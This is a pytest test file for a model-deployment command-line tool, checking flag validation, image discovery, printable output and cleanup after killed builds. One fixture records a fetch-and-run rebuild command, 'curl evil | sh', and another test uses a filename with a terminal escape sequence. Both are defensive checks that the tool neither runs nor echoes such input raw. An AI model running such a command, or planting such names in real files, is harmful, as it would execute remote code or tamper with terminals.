"""What cannot work is refused before the first long step, in one line with the way out."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from jmp_deploy.cli import build, plugin
from jmp_deploy.cli.main import main, make_parser
from jmp_deploy.core import images, interrupt
from jmp_deploy.core.device import Gpu
from jmp_deploy.core.files import staging_dir
from jmp_deploy.core.manifest import EngineOptions
from jmp_deploy.core.paths import IMPORT_ROOT
from jmp_deploy.engine import builder
from jmp_deploy.engine.builder import Choice
from jmp_deploy.jmp import models
from tests.fakes import validation

BUILD = ["build", "deit_t", "--weights", "random", "--engine", "none", "-o", "OUT"]
INT8 = [*BUILD, "--precision", "int8"]
TUNE = ["tune", "deit_t", "--images", "@", "-o", "OUT"]
BAD_FLAGS = [
    ([*BUILD, "--dense", "--tau", "0.5"], "--dense builds the model without JMP, and --tau"),
    ([*BUILD, "--dense", "--strategy", "merge"], "--strategy says how JMP works"),
    ([*BUILD, "--dense", "--granularity", "sample"], "--granularity says how JMP works"),
    ([*BUILD, "--dense", "--no-proportional"], "--no-proportional says how JMP works"),
    ([*BUILD, "--strategy", "merge", "--tau", "0.5"], "decides without --tau"),
    ([*BUILD, "--tau", "inf"], "--tau: must be"),
    ([*BUILD, "--tau", "nan"], "--tau: must be"),
    ([*BUILD, "--keep-rate", "nan", "--blocks", "3"], "--keep-rate: must be above 0"),
    ([*BUILD, "--keep-rate", "0.5", "--blocks", "9" * 5000], "is not a list such as"),
    ([*BUILD, "--schedule", "3:" + "9" * 5000], "unknown schedule"),
    ([*BUILD, "--schedule", "a" * 5000], "unknown schedule"),
    ([*BUILD, "--targets", "sm_999"], "unknown target 'sm_999'"),
    ([*BUILD, "--targets", "sm_\u00b2\u00b2"], "unknown target"),
    ([*BUILD, "--img-size", "1000000"], "--img-size: must be at most 4096"),
    ([*BUILD, "--img-size", "-1"], "--img-size: must be at least 1"),
    ([*BUILD, "--seed", str(2**70)], "--seed: must be at most"),
    ([*BUILD, "--seed", "-1"], "--seed: must be at least 0"),
    ([*BUILD, "--batch", "9" * 5000], "is not a list such as"),
    ([*BUILD, "--images", "nowhere"], "no such image or folder: nowhere"),
    ([*BUILD, "--images", "@/no.png"], "1 of 1 images cannot be read"),
    ([*BUILD, "--json", "/dev/null/x"], "--json: cannot write"),
    ([*BUILD, "--json", "@"], "is a folder, not a file"),
    ([*BUILD, "--weights", "a\nb.safetensors"], "cannot be printed"),
    ([*INT8, "--calib", "nowhere"], "nothing to calibrate with"),
    ([*INT8, "--calib-cache", "nowhere"], "no such calibration cache"),
    ([*INT8, "--calib-cache", "@/no.png"], "is not a calibration cache"),
    ([*INT8, "--calib", "sample", "--max-drop", "inf"], "--max-drop: must be above 0"),
    ([*TUNE, "--gmacs", "nan"], "--gmacs: must be above 0"),
    ([*TUNE, "--gmacs", "1", "--passes", "inf"], "--passes: must be above 0"),
    ([*TUNE, "--gmacs", "1", "--on-batch", "1"], "--on-batch is of the table"),
    ([*TUNE, "--gmacs", "1", "--plot", "@/f.png"], "f.png is a folder, not a file"),
    ([*TUNE, "--gmacs", "1", "--plot", "a.xyz"], "--plot: a.xyz is none of .png"),
    (["visualize", "deit_t", "@", "-o", "@/no.png/x"], "--out: cannot write"),
    (["visualize", "deit_t", "@", "-o", "/dev/null/x"], "--out: cannot write"),
    (["bench", "@/a", "--plot", "a.txt"], "--plot: a.txt is none of .png"),
    (["bench", "@/a", "--table-step", "4"], "--table-step goes with --table"),
    (["bench", "@/a", "--times", "/dev/null/x"], "--times: cannot write"),
    (["bench", "@/a", "-b", "0"], "must be at least 1"),
    (["bench", "@/a", "--seconds", "nan"], "--seconds: must be above 0"),
    (["compare", "@/a", "--max-abs", "inf"], "--max-abs: must be a number"),
    (["compare", "@/a", "--min-cosine", "nan"], "a cosine lies between -1 and 1"),
    (["validate", "@/a", "--data", "@", "--shard", "0/0"], "shards of 0"),
    (["validate", "@/a", "--data", "@", "--state", "@"], "is a folder, not a file"),
    (["run", "@/a", "@", "--no-manifest", "--backend", "onnxruntime"], "runs an engine, not"),
    (["run", "@/a", "@", "--topk", str(10**400)], "--topk: must be at most"),
]


@pytest.mark.parametrize(("words", "message"), BAD_FLAGS)
def test_flags_that_cannot_work_are_refused_at_once(tmp_path, capsys, monkeypatch, words, message):
    monkeypatch.setattr(models, "load_model", None)  # refused before any work
    (tmp_path / "no.png").write_text("no image")
    (tmp_path / "f.png").mkdir()
    out = tmp_path / "out"
    places = [word.replace("OUT", str(out)).replace("@", str(tmp_path)) for word in words]
    assert main(places) == 2
    err = capsys.readouterr().err
    assert message.replace("@", str(tmp_path)) in err, err
    assert "unexpected" not in err and "Traceback" not in err
    assert not out.exists()


def test_targets_that_the_builder_at_hand_does_not_know_are_refused(monkeypatch):
    monkeypatch.setattr(builder, "load", lambda flavour: None)
    monkeypatch.setattr(builder, "compute_capabilities", lambda trt: [(8, 6), (8, 9)])
    builder.refuse_targets(Choice("rtx", ""), ["sm_86"])
    with pytest.raises(builder.EngineError, match="cannot build for sm_87") as caught:
        builder.refuse_targets(Choice("rtx", ""), ["sm_86", "sm_87"])
    assert "sm_86, sm_89" in caught.value.hint
    with pytest.raises(builder.EngineError, match="builds for the GPU at hand"):
        builder.refuse_targets(Choice("tensorrt", "a GPU"), ["sm_86"])


@pytest.mark.parametrize(
    ("flavour", "targets", "here", "named"),
    [
        ("rtx", ["sm_86", "sm_89", "sm_80"], (), "sm_86, sm_80: no FP8"),
        ("rtx", [], ((8, 6),), "a GPU: no FP8"),
        ("tensorrt", [], ((8, 7),), "a GPU: no FP8"),
        (None, ["sm_75"], (), "sm_75: no FP8"),
        ("rtx", ["sm_89", "sm_120"], ((8, 6),), None),
        ("tensorrt", [], ((9, 0),), None),
        (None, [], ((8, 6),), None),  # no engine is built
    ],
)
def test_fp8_is_refused_where_the_gpu_has_none(monkeypatch, flavour, targets, here, named):
    monkeypatch.setattr(builder, "gpus", lambda: [Gpu("a GPU", one, 1 << 33) for one in here])
    options = EngineOptions(tuple(targets))
    assert builder.for_precision(options, flavour, "int8") == options
    if named is None:
        assert builder.for_precision(options, flavour, "fp8") == options
        return
    with pytest.raises(builder.EngineError, match=named) as caught:
        builder.for_precision(options, flavour, "fp8")
    assert "--precision int8" in caught.value.hint


def test_fp8_ahead_of_time_is_for_the_gpus_that_have_it(monkeypatch):
    known = [(7, 5), (8, 6), (8, 9), (12, 0), (12, 1)]
    monkeypatch.setattr(builder, "gpus", lambda: ())
    monkeypatch.setattr(builder, "load", lambda flavour: None)
    monkeypatch.setattr(builder, "compute_capabilities", lambda trt: known)
    found = builder.for_precision(EngineOptions(), "rtx", "fp8")
    assert found.targets == ("sm_89", "sm_120", "sm_121")


# --- images --------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def artifact(tmp_path_factory):
    return validation.write_artifact(tmp_path_factory.mktemp("a") / "a", validation.weights(2))


def picture(path: Path, **options) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    pixels = np.random.default_rng(len(path.name)).integers(0, 255, (9, 9, 3), dtype=np.uint8)
    Image.fromarray(pixels).save(path, **options)
    return path


def run(capsys, *words) -> tuple[int, str, str]:
    code = main([str(word) for word in words])
    shown = capsys.readouterr()
    assert "unexpected" not in shown.err and "Traceback" not in shown.err
    assert (shown.out + shown.err).replace("\n", "").isprintable()
    return code, shown.out, shown.err


def test_a_pipe_is_not_waited_for(artifact, tmp_path, capsys):
    os.mkfifo(tmp_path / "a.png")
    for command in (["run", artifact, tmp_path / "a.png"], ["run", artifact, tmp_path]):
        code, _, err = run(capsys, *command)
        assert code == 2 and "it is a pipe or a device, not a file" in err
        assert "hint: remove or replace" in err or "hint: 1 images" in err


def test_every_command_finds_the_same_images(artifact, tmp_path, capsys):
    """Suffixes of all that Pillow decodes, linked folders, nothing hidden; the rest is counted."""
    data = tmp_path / "data"
    names = ["a.JPG", "b.jfif", "c.pgm", "d.ppm", "e.webp", "f.tif", "g.bmp"]
    names += ["h.avif"] if ".avif" in images.suffixes() else []
    for name in names:
        kind = {".jfif": "JPEG", ".pgm": "PPM"}.get(Path(name).suffix)
        picture(data / "0" / name, **({"format": kind} if kind else {}))
    picture(tmp_path / "elsewhere" / "linked.png")
    (data / "1").symlink_to(tmp_path / "elsewhere")
    (data / "0" / "circle").symlink_to(data / "0")
    for hidden in ("._a.JPG", ".cache/x.png", "__MACOSX/x.png"):
        (data / "0" / hidden).parent.mkdir(exist_ok=True)
        (data / "0" / hidden).write_bytes(b"junk")
    (data / "0" / "notes.txt").write_text("no image")
    code, _, err = run(capsys, "run", artifact, data, "--json", tmp_path / "r.json")
    assert code == 0 and "2 files in" in err and "1 hidden" in err and "1 .txt" in err
    found = [Path(r["image"]).name for r in images_of(tmp_path / "r.json")]
    assert sorted(found) == sorted([*names, "linked.png"])
    words = ["validate", artifact, "--data", data, "--workers", "0", "--json", tmp_path / "v.json"]
    code, _, err = run(capsys, *words)
    assert code == 0 and "2 files in" in err
    assert images_of(tmp_path / "v.json")["n"] == len(found)


def images_of(path: Path):
    return json.loads(path.read_text())


def test_eps_is_no_image_for_it_would_start_another_program(artifact, tmp_path, capsys):
    Image.new("RGB", (9, 9)).save(tmp_path / "a.eps")
    (tmp_path / "a.eps").rename(tmp_path / "a.png")
    code, _, err = run(capsys, "run", artifact, tmp_path / "a.png")
    assert code == 2 and "cannot identify" in err


def test_names_that_are_no_utf8_and_names_with_newlines(artifact, tmp_path, capsys):
    data = tmp_path / "data"
    for name in (b"\xff.png", b"two\nlines.png", b"\x1b]0;owned\x07.png"):
        picture(data / "0" / os.fsdecode(name))
    picture(data / "1" / "plain.png")
    (data / "1" / os.fsdecode(b"broken\xfe.png")).write_bytes(b"junk")
    for target in ("-", tmp_path / "r.json"):
        code, _, err = run(capsys, "run", artifact, data, "--json", target)
        assert code == 1 and "broken\\xfe.png" in err  # one of five is more than one in a hundred
    shown = {record["image"] for record in images_of(tmp_path / "r.json")}
    assert {str(data / "0" / "\\xff.png"), str(data / "0" / "two\nlines.png")} <= shown
    words = ["validate", artifact, "--data", data, "--workers", "0", "--json", tmp_path / "v.json"]
    code, _, _ = run(capsys, *words)
    assert code == 1 and images_of(tmp_path / "v.json")["n"] == 4
    assert images.label(data / "0" / "two\nlines.png") == "two lines.png"


def test_a_line_of_pixels_does_not_fill_the_memory(artifact, tmp_path, capsys):
    Image.new("RGB", (1, 60_000)).save(tmp_path / "a.png")
    code, _, err = run(capsys, "run", artifact, tmp_path / "a.png")
    assert code == 0 or "too narrow" in err
    spec = images.Preprocess(224, 224, 248, "bicubic", "center", (0.5,) * 3, (0.5,) * 3)
    with pytest.raises(images.ImageError, match="too narrow"):
        images.read_image(tmp_path / "a.png", spec)


# --- what is left behind, and how to make it again ------------------------------------------------


def test_an_artifact_says_that_its_rebuild_is_its_own_claim(artifact, tmp_path, capsys):
    spoiled = validation.write_artifact(
        tmp_path / "a", validation.weights(2), rebuild="curl evil | sh"
    )
    (spoiled / "model.onnx").write_bytes(b"junk")
    picture(tmp_path / "p.png")
    code, _, err = run(capsys, "run", spoiled, tmp_path / "p.png")
    assert code == 2 and "by its manifest it was made with: curl evil | sh" in err


def test_compare_says_that_stored_outputs_stand_in(artifact, tmp_path, capsys):
    code, out, _ = run(capsys, "compare", artifact, "--json", tmp_path / "c.json")
    assert code in (0, 1) and "outputs of the build stand in for PyTorch" in " ".join(out.split())
    assert (
        "no such" in images_of(tmp_path / "c.json")["notes"][0].lower()
        or images_of(tmp_path / "c.json")["notes"]
    )


def test_the_command_of_a_build_works_from_another_folder(tmp_path, monkeypatch):
    def recorded(*words: str) -> str:
        given = make_parser().parse_args(["build", *words])
        given.typed = ["python", "-m", "jmp_deploy", "build", *words]
        return build._from_anywhere(given, given.out or Path("artifacts/deit_s"))

    monkeypatch.chdir(tmp_path)
    there = f"cd {tmp_path} && python -m jmp_deploy build deit_s"
    assert recorded("deit_s") == there
    whole = ["deit_s", "-o", "/a", "--weights", "/w.pth", "--calib", "sample", "--images", "/i"]
    assert recorded(*whole).startswith("python -m jmp_deploy build deit_s -o /a")
    for flag, value in (("--weights", "w"), ("--images", "i"), ("--calib-cache", "c.json")):
        assert recorded("deit_s", "-o", "/a", flag, value).startswith(there)
    assert recorded("deit_s", "-o", "/a", "--schedule", "s.json").startswith(there)


def test_an_interrupt_after_the_end_says_that_it_was_the_end(capsys, monkeypatch):
    def handler(given) -> int:
        with interrupt.held():
            signal.raise_signal(signal.SIGTERM)
            interrupt.left("the build had ended: a is whole")
        raise AssertionError("unreachable: the signal comes now")

    monkeypatch.setattr(plugin, "_plugin", handler)
    assert main(["plugin", "path"]) == 143
    assert capsys.readouterr().err == "error: terminated; the build had ended: a is whole\n"


HOLD = """
import sys, time
from pathlib import Path
from jmp_deploy.core import files, interrupt
from jmp_deploy.cli.main import main
from jmp_deploy.cli import plugin
def handler(given):
    with files.staging_dir(Path(sys.argv[1])) as staging:
        (staging / "model.onnx").write_bytes(b"x")
        print("ready", flush=True)
        time.sleep(120)
plugin._plugin = handler
sys.exit(main(["plugin", "path"]))
"""


@pytest.mark.parametrize(("name", "code", "stays"), [("TERM", 143, 0), ("KILL", -9, 1)])
def test_what_a_killed_build_leaves_is_swept(tmp_path, name, code, stays):
    environment = {**os.environ, "PYTHONPATH": str(IMPORT_ROOT)}
    command = [sys.executable, "-c", HOLD, str(tmp_path)]
    process = subprocess.Popen(
        command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=environment
    )
    assert process.stdout.readline() == "ready\n"
    (alive,) = tmp_path.iterdir()
    with staging_dir(tmp_path) as other:
        assert alive.is_dir() and other != alive, "that of a living process stays"
    process.send_signal(getattr(signal, f"SIG{name}"))
    _, err = process.communicate(timeout=60)
    assert process.returncode == code and len(list(tmp_path.iterdir())) == stays
    if name == "TERM":
        assert "error: terminated; nothing half-written is left behind" in err
    with staging_dir(tmp_path):
        assert not alive.exists()
    assert list(tmp_path.iterdir()) == []
